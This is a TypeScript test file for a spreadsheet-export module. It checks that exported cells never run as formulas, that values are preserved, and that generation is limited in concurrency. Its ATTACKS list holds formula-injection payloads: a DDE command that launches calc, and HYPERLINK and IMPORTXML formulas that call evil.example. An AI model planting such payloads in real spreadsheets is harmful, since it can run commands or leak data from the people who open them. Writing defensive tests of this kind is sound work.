import excel from 'exceljs';
import fc from 'fast-check';
import { fastify } from 'fastify';
import { makeSheet, type Cell } from './sheet.js';

const CELLS = 10_000;
const COLUMNS = 10;

/** Texts that spreadsheets have executed as formulas. */
const ATTACKS = [
  `=HYPERLINK("https://evil.example","here")`,
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=IMPORTXML("https://evil.example")',
  "'=1+1",
  '＝1+1',
  ' =1+1',
  '"=1+1"',
  '<f>1+1</f>',
  ']]><f>1</f>',
  '_x003D_1+1',
];
const hostile = fc.oneof(
  fc.constantFrom(...ATTACKS),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', ''), fc.string({ unit: 'grapheme' }))
    .map((parts) => parts.join('')),
);

async function sheetOf(rows: Cell[][]): Promise<excel.Worksheet> {
  const app = fastify();
  const columns = Array.from({ length: COLUMNS }, (_, nth) => ({ header: `${nth}`, width: 10 }));
  app.get('/', async (_request, reply) =>
    (await makeSheet(reply, { file: 'cells', title: 'Cells', columns }, pages(rows))).getStream(),
  );
  const { rawPayload } = await app.inject('/');
  await app.close();
  const workbook = new excel.Workbook();
  await workbook.xlsx.load(rawPayload as never);
  return workbook.worksheets[0]!;
}

async function* pages(rows: Cell[][]): AsyncGenerator<Cell[][]> {
  for (let from = 0; from < rows.length; from += 100) yield rows.slice(from, from + 100);
}

/** Unchanged, but for characters that XML cannot hold, and a quote before a would-be formula. */
const asKept = (text: string) => text.replaceAll(/[\0-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]/g, '');
const unquoted = (text: string) => text.replace(/^'(?=[=+\-@\t\r\n])/, '');
const sameLines = (text: string) => text.replaceAll(/\r\n?/g, '\n');

describe('a sheet', () => {
  it('a sheet holds texts that are not executed as formulas, and each unchanged', async () => {
    const texts = fc.sample(hostile, { numRuns: CELLS, seed: 11 });
    const rows = Array.from({ length: CELLS / COLUMNS }, (_, nth) => texts.slice(nth * COLUMNS, (nth + 1) * COLUMNS));
    const sheet = await sheetOf(rows);
    let formulas = 0;
    const differing: unknown[] = [];
    rows.forEach((cells, row) =>
      cells.forEach((text, column) => {
        const cell = sheet.getRow(row + 2).getCell(column + 1);
        if (cell.formula !== undefined || (typeof cell.value === 'object' && cell.value !== null)) formulas++;
        const kept = cell.value === null ? '' : String(cell.value);
        if (/^[=+\-@\t\r\n]/.test(kept)) formulas++;
        if (sameLines(unquoted(kept)) !== sameLines(asKept(unquoted(text)))) differing.push([text, kept]);
      }),
    );
    expect(formulas).toBe(0);
    expect(differing).toEqual([]);
  });

  it('a sheet keeps numbers, days and empty cells as what they are', async () => {
    const at = new Date('2026-12-01T10:00:00Z');
    const row = (await sheetOf([[-12.5, at, null, '']])).getRow(2);
    expect([row.getCell(1).value, row.getCell(2).value, row.getCell(3).value]).toEqual([-12.5, at, null]);
  });
});

describe('sheets', () => {
  const columns = [{ header: 'x', width: 10 }];
  const sheet = { file: 'cells', title: 'Cells', columns };

  /** An endpoint of sheets whose rows are released by the test, and the number being read. */
  async function slowSheets() {
    const app = fastify();
    const reading = { now: 0, most: 0, begun: 0 };
    const held: Array<() => void> = [];
    async function* rows(): AsyncGenerator<Cell[][]> {
      reading.most = Math.max(reading.most, ++reading.now);
      reading.begun++;
      await new Promise<void>((release) => held.push(release));
      yield [['a']];
      reading.now--;
    }
    app.get('/', async (_request, reply) => {
      const file = await makeSheet(reply, sheet, rows());
      return reply.header('content-length', file.getHeaders().length ?? 0).send(file.getStream());
    });
    const url = await app.listen({ port: 0, host: '127.0.0.1' });
    return { app, url, reading, release: () => held.splice(0).forEach((release) => release()) };
  }
  const soon = () => new Promise((done) => setTimeout(done, 50));

  it('sheets are made two at a time, in the order of the requests, and all complete', async () => {
    const { app, url, reading, release } = await slowSheets();
    const sizes: number[] = [];
    const asked = Array.from({ length: 6 }, async () => {
      const answer = await fetch(url);
      sizes.push((await answer.arrayBuffer()).byteLength);
      expect(Number(answer.headers.get('content-length'))).toBe(sizes.at(-1));
    });
    while (reading.now < 2) await soon();
    while (sizes.length < asked.length) {
      release();
      await soon();
    }
    expect([reading.begun, reading.most]).toEqual([6, 2]);
    expect(sizes.every((size) => size > 1_000)).toBe(true);
    await app.close();
  });

  it('sheets are not made for callers that have disconnected while waiting', async () => {
    const { app, url, reading, release } = await slowSheets();
    const first = [fetch(url), fetch(url)];
    while (reading.begun < 2) await soon();
    const disconnected = new AbortController();
    const third = fetch(url, { signal: disconnected.signal }).catch(() => 'gone');
    await soon();
    disconnected.abort();
    expect(await third).toBe('gone');
    await soon();
    release();
    for (const answer of first) expect((await answer).status).toBe(200);
    await soon();
    expect(reading.begun).toBe(2);
    await app.close();
  });

  it('sheets with an error are refused as any other call', async () => {
    const app = fastify();
    app.get('/', async (_request, reply) => {
      const broken = { [Symbol.asyncIterator]: () => ({ next: () => Promise.reject(new Error('no rows')) }) };
      return (await makeSheet(reply, sheet, broken)).getStream();
    });
    expect((await app.inject('/')).statusCode).toBe(500);
    await app.close();
  });
});
